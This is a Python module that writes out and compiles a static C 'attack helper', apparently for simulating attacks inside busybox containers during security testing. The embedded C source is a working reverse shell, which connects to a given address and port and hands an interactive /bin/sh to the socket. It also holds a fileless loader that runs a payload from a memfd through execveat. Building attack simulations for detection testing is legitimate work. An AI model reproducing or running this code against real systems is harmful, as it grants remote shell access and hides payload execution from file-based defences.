"""A static helper binary for attacks busybox cannot do alone: a shell whose
standard streams are a TCP socket (as a Python or Perl one-liner does), and a
program run from a memfd. Built with the host's gcc, mounted read-only into
busybox containers."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

__all__ = ["build_attack_tools"]

SOURCE = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

extern char **environ;

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "revshell") == 0) {  /* revshell ADDR PORT */
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
        inet_pton(AF_INET, argv[2], &a.sin_addr);
        if (connect(s, (struct sockaddr *)&a, sizeof(a)) != 0) {
            perror("connect");
            return 1;
        }
        dup2(s, 0);
        dup2(s, 1);
        dup2(s, 2);
        char *sh[] = {"sh", "-i", NULL};
        execv("/bin/sh", sh);
        return 1;
    }
    if (argc >= 4 && strcmp(argv[1], "memfd") == 0) {  /* memfd FILE ARGV0 ARGS... */
        int in = open(argv[2], O_RDONLY);
        int fd = memfd_create("payload", MFD_CLOEXEC);
        char buf[65536];
        ssize_t n;
        while ((n = read(in, buf, sizeof(buf))) > 0)
            if (write(fd, buf, n) != n)
                return 1;
        syscall(SYS_execveat, fd, "", argv + 3, environ, AT_EMPTY_PATH);
        perror("execveat");
        return 1;
    }
    fprintf(stderr, "usage: revshell ADDR PORT | memfd FILE ARGV0 [ARGS...]\n");
    return 2;
}
"""


def build_attack_tools(directory: Path) -> Path:
    """Compile the helper (static, so it runs in any image) into ``directory``."""
    gcc = shutil.which("gcc")
    if gcc is None:
        raise RuntimeError("gcc is needed to build the attack helper")
    directory.mkdir(parents=True, exist_ok=True)
    src = directory / "attack_tools.c"
    src.write_text(SOURCE)
    out = directory / "attack_tools"
    subprocess.run([gcc, "-static", "-O1", "-o", str(out), str(src)], check=True, capture_output=True)
    return out
